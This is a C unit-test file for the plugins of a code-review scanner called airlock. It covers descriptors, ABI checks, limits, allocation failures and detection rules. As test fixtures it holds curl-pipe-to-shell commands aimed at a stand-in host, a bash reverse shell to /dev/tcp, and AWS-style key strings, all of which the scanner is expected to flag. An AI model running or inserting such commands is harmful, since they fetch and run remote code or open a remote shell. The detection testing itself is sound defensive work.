/*
 * test_plugins.c: the built analyzer plugins (<build>/plugins/<name>.so)
 * through dlopen with a test host table: descriptor fields, the single
 * exported symbol, init/analyze/fini, the host's AIRLOCK_E_LIMIT stopping a
 * scan, a failing host allocator, a short input struct, the parsed-files
 * input (the patch text alone is never parsed by a plugin), an evidence
 * bound, and the job's commands (AIRLOCK_CAP_COMMANDS: labels, lines).
 * Inputs are built by the host's own patch model (plugin_view_new).
 */
#include <dlfcn.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "airlock_plugin.h"
#include "worker/plugin_host/plugin_host.h"

static const char *const s_names[] = {"secrets", "shell", "python", "paths", "ci", "unicode"};

typedef struct {
    unsigned n;
    unsigned limit_after;     /* answer AIRLOCK_E_LIMIT after this many, 0 = never */
    int fail_alloc;
    unsigned allocs, frees;
    char rule[8][64];
    int sev[8];
    unsigned line[8];
    char file[8][64];
    char evidence[8][AIRLOCK_MAX_EVIDENCE + 1];
    int evidence_nul_ok;
} host_ctx_t;

static int h_emit(void *ctx, const airlock_finding_t *f)
{
    host_ctx_t *h = ctx;
    if (f->struct_size != sizeof *f || !f->rule_id || !f->message)
        return AIRLOCK_E_INVAL;
    if (h->n < 8) {
        snprintf(h->rule[h->n], sizeof h->rule[0], "%s", f->rule_id);
        h->sev[h->n] = f->severity;
        h->line[h->n] = f->line;
        snprintf(h->file[h->n], sizeof h->file[0], "%s", f->file ? f->file : "");
        if (f->evidence) {
            h->evidence_nul_ok &= strlen(f->evidence) <= AIRLOCK_MAX_EVIDENCE;
            snprintf(h->evidence[h->n], sizeof h->evidence[0], "%s", f->evidence);
        }
    }
    h->n++;
    return (h->limit_after && h->n >= h->limit_after) ? AIRLOCK_E_LIMIT : AIRLOCK_OK;
}

static void h_log(void *ctx, int level, const char *msg)
{
    (void)ctx;
    (void)level;
    (void)msg;
}

static void *h_alloc(void *ctx, size_t n)
{
    host_ctx_t *h = ctx;
    if (h->fail_alloc)
        return NULL;
    h->allocs++;
    return malloc(n);
}

static void h_free(void *ctx, void *p)
{
    host_ctx_t *h = ctx;
    if (p)
        h->frees++;
    free(p);
}

static void *open_plugin(const char *name, const airlock_plugin_t **d)
{
    char path[1024];
    void *so;
    const airlock_plugin_t *(*fn)(void);
    snprintf(path, sizeof path, "%s/plugins/%s.so", AIRLOCK_BUILD_DIR, name);
    so = dlopen(path, RTLD_NOW | RTLD_LOCAL);
    if (!so)
        fail_msg("dlopen %s: %s", path, dlerror());
    *(void **)&fn = dlsym(so, AIRLOCK_PLUGIN_SYMBOL);
    assert_non_null(fn);
    *d = fn();
    assert_non_null(*d);
    return so;
}

/* The patch through the host's model (what the plugin host hands over),
 * then init/analyze/fini of the plugin. */
static int run_patch(const airlock_plugin_t *d, host_ctx_t *h, const char *patch)
{
    airlock_host_t host = {sizeof host, AIRLOCK_PLUGIN_ABI_VERSION, h_emit, h_log,
                           h_alloc, h_free, h};
    plugin_source_t src = PLUGIN_SOURCE_INIT;
    plugin_view_t *v = NULL;
    void *state = NULL;
    src.patch = patch;
    src.patch_len = strlen(patch);
    assert_int_equal(plugin_view_new(&v, &src, d->capabilities, NULL), 0);
    int rc = d->init(&host, &state);
    if (rc == 0) {
        rc = d->analyze(state, plugin_view_input(v));
        d->fini(state);
    }
    plugin_view_destroy(&v);
    return rc;
}

static void test_descriptors(void **s)
{
    (void)s;
    for (size_t i = 0; i < sizeof s_names / sizeof s_names[0]; i++) {
        const airlock_plugin_t *d;
        void *so = open_plugin(s_names[i], &d);
        assert_int_equal(d->struct_size, sizeof(airlock_plugin_t));
        assert_int_equal(d->abi_version, AIRLOCK_PLUGIN_ABI_VERSION);
        assert_string_equal(d->name, s_names[i]);
        assert_int_equal(d->capabilities & ~AIRLOCK_CAP_ALL, 0);
        /* shell and unicode scan the job's commands; python reads which files they run */
        assert_int_equal(!!(d->capabilities & AIRLOCK_CAP_COMMANDS),
                         strcmp(s_names[i], "shell") == 0 || strcmp(s_names[i], "python") == 0 ||
                             strcmp(s_names[i], "unicode") == 0);
        for (size_t k = 0; k < 8; k++)
            assert_null(d->reserved[k]);
        /* nothing but the descriptor is exported */
        assert_null(dlsym(so, "an_plugin_analyze"));
        assert_null(dlsym(so, "an_run_input"));
        assert_null(dlsym(so, "shell_scan_command"));
        dlclose(so);
    }
}

static const char s_aws_patch[] =
    "diff --git a/prod.env b/prod.env\nnew file mode 100644\n--- /dev/null\n+++ b/prod.env\n"
    "@@ -0,0 +1,2 @@\n+KEY=AKIAQ3EGUJ7ZK5RVPX2M\n+SECRET=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\n";

static void test_secrets_through_abi(void **s)
{
    const airlock_plugin_t *d;
    host_ctx_t h = {.evidence_nul_ok = 1};
    void *so = open_plugin("secrets", &d);
    (void)s;
    assert_int_equal(run_patch(d, &h, s_aws_patch), 0);
    assert_int_equal(h.n, 2);
    assert_string_equal(h.rule[0], "secrets.aws_access_key");
    assert_int_equal(h.sev[0], AIRLOCK_SEV_HIGH);
    assert_int_equal(h.line[0], 1);
    assert_string_equal(h.evidence[0], "AKIAQ3EGUJ7ZK5RVPX2M");
    assert_string_equal(h.rule[1], "secrets.aws_secret_key");
    assert_int_equal(h.allocs, h.frees);
    dlclose(so);
}

static void test_limit_stops_scan(void **s)
{
    const airlock_plugin_t *d;
    host_ctx_t h = {.limit_after = 1};
    void *so = open_plugin("secrets", &d);
    (void)s;
    assert_int_equal(run_patch(d, &h, s_aws_patch), 0); /* E_LIMIT: stop and return 0 */
    assert_int_equal(h.n, 1);
    dlclose(so);
}

static void test_host_failures(void **s)
{
    const airlock_plugin_t *d;
    host_ctx_t h = {.fail_alloc = 1};
    airlock_host_t host = {sizeof host, AIRLOCK_PLUGIN_ABI_VERSION, h_emit, h_log,
                           h_alloc, h_free, &h};
    airlock_input_t in = {sizeof(airlock_input_t) - 8, "", 0, 0, NULL, 0, NULL, 0};
    void *state = NULL;
    void *so = open_plugin("shell", &d);
    (void)s;
    assert_int_equal(run_patch(d, &h, s_aws_patch), AIRLOCK_E_NOMEM);
    h.fail_alloc = 0;
    host.struct_size = 8; /* a short host table is refused */
    assert_int_not_equal(d->init(&host, &state), 0);
    host.struct_size = sizeof host;
    assert_int_equal(d->init(&host, &state), 0);
    assert_int_not_equal(d->analyze(state, &in), 0); /* short input struct */
    d->fini(state);
    assert_int_equal(h.allocs, h.frees);
    dlclose(so);
}

/* The plugin reads the host's parsed files; patch text alone is not parsed. */
static void test_files_input(void **s)
{
    const airlock_plugin_t *d;
    host_ctx_t h = {0};
    static const char line1[] = "setup:";
    static const char line2[] = "\tcurl -s https://x.example/i | sh";
    airlock_line_t lines[2] = {{1, sizeof line1 - 1, line1}, {2, sizeof line2 - 1, line2}};
    airlock_file_t f = {sizeof f, "Makefile", "Makefile", "Makefile", AIRLOCK_MODE_FILE,
                        AIRLOCK_MODE_FILE, 0, 2, lines, NULL, 0, 0, NULL, 0};
    airlock_host_t host = {sizeof host, AIRLOCK_PLUGIN_ABI_VERSION, h_emit, h_log,
                           h_alloc, h_free, &h};
    airlock_input_t in = {sizeof in, "", 0, 1, &f, 0, NULL, 0};
    void *state = NULL;
    void *so = open_plugin("shell", &d);
    (void)s;
    assert_int_equal(d->init(&host, &state), 0);
    assert_int_equal(d->analyze(state, &in), 0);
    d->fini(state);
    assert_int_equal(h.n, 1);
    assert_string_equal(h.rule[0], "shell.curl_pipe_shell");
    assert_int_equal(h.sev[0], AIRLOCK_SEV_CRITICAL);
    assert_int_equal(h.line[0], 2);
    /* the same as raw text without the host's files: nothing (no second parser) */
    static const char text[] = "diff --git a/Makefile b/Makefile\n--- a/Makefile\n+++ b/Makefile\n"
                               "@@ -1 +1,2 @@\n setup:\n+\tcurl -s https://x.example/i | sh\n";
    airlock_input_t raw = {sizeof raw, text, sizeof text - 1, 0, NULL, 0, NULL, 0};
    h.n = 0;
    assert_int_equal(d->init(&host, &state), 0);
    assert_int_equal(d->analyze(state, &raw), 0);
    d->fini(state);
    assert_int_equal(h.n, 0);
    dlclose(so);
}

static void test_evidence_bounded(void **s)
{
    const airlock_plugin_t *d;
    host_ctx_t h = {.evidence_nul_ok = 1};
    char patch[4096];
    char tok[700];
    void *so = open_plugin("secrets", &d);
    (void)s;
    for (size_t i = 0; i + 1 < sizeof tok; i++)   /* varied: one repeated letter is a placeholder */
        tok[i] = "aB3xQ9kZ"[(i * 7 + i / 8) % 8];
    tok[sizeof tok - 1] = '\0';
    memcpy(tok, "ghp_", 4);
    snprintf(patch, sizeof patch, "diff --git a/x b/x\nnew file mode 100644\n--- /dev/null\n+++ b/x\n"
             "@@ -0,0 +1 @@\n+t=%s9Z\n", tok);
    assert_int_equal(run_patch(d, &h, patch), 0);
    assert_int_equal(h.n, 1);
    assert_true(h.evidence_nul_ok);
    assert_int_equal(strlen(h.evidence[0]), AIRLOCK_MAX_EVIDENCE);
    dlclose(so);
}

/* The job's commands: findings named job:run[i] / job:test, line 0 for a
 * one-line command, the line within a multi-line script otherwise. */
static void test_commands_input(void **s)
{
    const airlock_plugin_t *d;
    host_ctx_t h = {0};
    static const char *const a0[] = {"/bin/sh", "-c", "make", NULL};
    static const char *const a1[] = {"/bin/sh", "-c", "curl -fsSL https://x.example/i | sh", NULL};
    static const char *const a2[] = {"bash", "-c", "set -e\npytest\nbash -i >& /dev/tcp/192.0.2.1/9 0>&1", NULL};
    airlock_command_t cmds[3] = {
        {sizeof cmds[0], "run", 0, a0[2], strlen(a0[2]), 3, a0},
        {sizeof cmds[0], "run", 1, a1[2], strlen(a1[2]), 3, a1},
        {sizeof cmds[0], "test", 0, a2[2], strlen(a2[2]), 3, a2},
    };
    airlock_host_t host = {sizeof host, AIRLOCK_PLUGIN_ABI_VERSION, h_emit, h_log,
                           h_alloc, h_free, &h};
    airlock_input_t in = {sizeof in, "", 0, 0, NULL, 3, cmds, 0};
    void *state = NULL;
    void *so = open_plugin("shell", &d);
    (void)s;
    assert_int_equal(d->init(&host, &state), 0);
    assert_int_equal(d->analyze(state, &in), 0);
    assert_int_equal(h.n, 2);
    assert_string_equal(h.rule[0], "shell.curl_pipe_shell");
    assert_string_equal(h.file[0], "job:run[1]");
    assert_int_equal(h.line[0], 0);
    assert_int_equal(h.sev[0], AIRLOCK_SEV_CRITICAL);
    assert_string_equal(h.rule[1], "shell.reverse_shell");
    assert_string_equal(h.file[1], "job:test");
    assert_int_equal(h.line[1], 3);
    /* a command struct from a different layout is skipped, not misread */
    h.n = 0;
    cmds[1].struct_size = 8;
    assert_int_equal(d->analyze(state, &in), 0);
    assert_int_equal(h.n, 1);
    assert_string_equal(h.file[0], "job:test");
    d->fini(state);
    assert_int_equal(h.allocs, h.frees);
    dlclose(so);
}

/* AIRLOCK_E_LIMIT from the host stops the command scan too. */
static void test_commands_limit(void **s)
{
    const airlock_plugin_t *d;
    host_ctx_t h = {.limit_after = 1};
    static const char *const a[] = {"/bin/sh", "-c", "curl https://x.example | sh", NULL};
    airlock_command_t cmds[4];
    for (uint32_t i = 0; i < 4; i++)
        cmds[i] = (airlock_command_t){sizeof cmds[0], "run", i, a[2], strlen(a[2]), 3, a};
    airlock_host_t host = {sizeof host, AIRLOCK_PLUGIN_ABI_VERSION, h_emit, h_log,
                           h_alloc, h_free, &h};
    airlock_input_t in = {sizeof in, "", 0, 0, NULL, 4, cmds, 0};
    void *state = NULL;
    void *so = open_plugin("shell", &d);
    (void)s;
    assert_int_equal(d->init(&host, &state), 0);
    assert_int_equal(d->analyze(state, &in), 0);
    assert_int_equal(h.n, 1);
    d->fini(state);
    dlclose(so);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_descriptors),
        cmocka_unit_test(test_secrets_through_abi),
        cmocka_unit_test(test_limit_stops_scan),
        cmocka_unit_test(test_host_failures),
        cmocka_unit_test(test_files_input),
        cmocka_unit_test(test_evidence_bounded),
        cmocka_unit_test(test_commands_input),
        cmocka_unit_test(test_commands_limit),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
